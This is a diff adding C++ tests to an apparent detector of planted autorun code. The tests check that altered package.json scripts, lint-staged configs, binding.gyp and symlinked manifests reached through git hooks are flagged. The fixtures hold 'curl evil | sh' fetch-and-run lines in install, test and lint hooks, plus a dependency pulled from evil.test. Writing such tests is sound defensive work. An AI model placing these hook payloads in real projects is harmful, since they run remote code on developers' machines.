@@ -315,6 +315,55 @@ TEST_F(PlantedCode, WhatAHooksPackageManagerRunsIsWatched) {
                                                  "old/web/.npmrc", "old/web/package.json"}));
 }
 
+// The ways hooks reach a package.json as people write them (and as a
+// review found missed): a `cd` on its own line, lefthook's `root:`, the
+// hook's own folder, a glued `-C`, an install's dependencies and build
+// file, lint-staged's configs in any folder, a manifest swapped for a link.
+TEST_F(PlantedCode, TheWaysHooksReachAPackageJsonAreFollowed) {
+  const std::string evil = R"({"scripts":{"pretest":"curl evil | sh","test":"jest","lint":"curl evil | sh"}})";
+  write_file(ws_ + "/old/.git/hooks/pre-commit", "#!/bin/sh\ncd a\nnpm test\n");
+  write_file(ws_ + "/old/.git/hooks/pre-push", "#!/bin/sh\ncd \"$(dirname \"$0\")/../../b\" && npm test\n");
+  write_file(ws_ + "/old/.git/hooks/post-merge", "#!/bin/sh\npnpm -Cc test\nnpm ci\n");
+  write_file(ws_ + "/old/.git/hooks/pre-rebase", "#!/bin/sh\nnpx lint-staged\n");
+  write_file(ws_ + "/old/lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: \"d/\"\n      run: yarn lint\n");
+  for (const char* folder : {"a", "b", "c", "d"})
+    write_file(ws_ + "/old/" + folder + "/package.json", R"({"scripts":{"test":"jest","lint":"eslint"}})");
+  write_file(ws_ + "/old/package.json", R"({"dependencies":{"x":"file:tools/x"}})");
+  write_file(ws_ + "/old/tools/x/package.json", R"({"name":"x"})");
+  write_file(ws_ + "/old/docs/package.json", R"({"name":"docs"})");
+  before_ = snapshot_autorun_entries(ws_, true);
+  for (const char* folder : {"a", "b", "c", "d"}) write_file(ws_ + "/old/" + folder + "/package.json", evil);
+  write_file(ws_ + "/old/package.json", R"({"dependencies":{"x":"file:tools/x","y":"https://evil.test/y.tgz"}})");
+  write_file(ws_ + "/old/tools/x/package.json", R"({"name":"x","scripts":{"postinstall":"curl evil | sh"}})");
+  write_file(ws_ + "/old/binding.gyp", "{'targets':[{'target_name':'x','sources':['<!(curl evil | sh)']}]}");
+  write_file(ws_ + "/old/src/.lintstagedrc.json", R"({"*": "curl evil | sh"})");
+  write_file(ws_ + "/old/docs/package.json", R"({"name":"docs","lint-staged":{"*":"curl evil | sh"}})");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"old/binding.gyp", "old/package.json", "old/a/package.json",
+                                                 "old/b/package.json", "old/c/package.json", "old/d/package.json",
+                                                 "old/docs/package.json", "old/src/.lintstagedrc.json",
+                                                 "old/tools/x/package.json"}));
+  // A manifest swapped for a link (through /proc/self/cwd it would lead
+  // elsewhere for npm than for warden) counts as changed.
+  before_ = snapshot_autorun_entries(ws_, true);
+  fs::rename(ws_ + "/old/a/package.json", ws_ + "/old/a/real.json");
+  fs::create_symlink("real.json", ws_ + "/old/a/package.json");
+  EXPECT_EQ(planted(), std::vector<std::string>{"old/a/package.json"});
+}
+
+// A hook of the repository around the workspace that runs npm in the
+// workspace's folder (the workspace is the repository's web/).
+TEST(PlantedCodeAround, AHookAboveTheWorkspaceThatRunsItsPackageJsonIsFollowed) {
+  const std::string repo = fs::canonical(make_temp_dir("repo")).string();
+  write_file(repo + "/.git/HEAD", "ref: refs/heads/main\n");
+  write_file(repo + "/.git/config", "[core]\n");
+  write_file(repo + "/.git/hooks/pre-commit", "#!/bin/sh\ncd web && npm test\n");
+  write_file(repo + "/web/package.json", R"({"scripts":{"test":"jest"}})");
+  const PlantedSnapshot before = snapshot_autorun_entries(repo + "/web", true);
+  write_file(repo + "/web/package.json", R"({"scripts":{"pretest":"curl evil | sh","test":"jest"}})");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(repo + "/web", true)),
+            std::vector<std::string>{"package.json"});
+}
+
 // Where the folder a hook's npm runs in has no package.json, npm takes the
 // nearest one above it (here the workspace's, above the repository).
 TEST_F(PlantedCode, ThePackageJsonNpmFindsAboveIsWatched) {
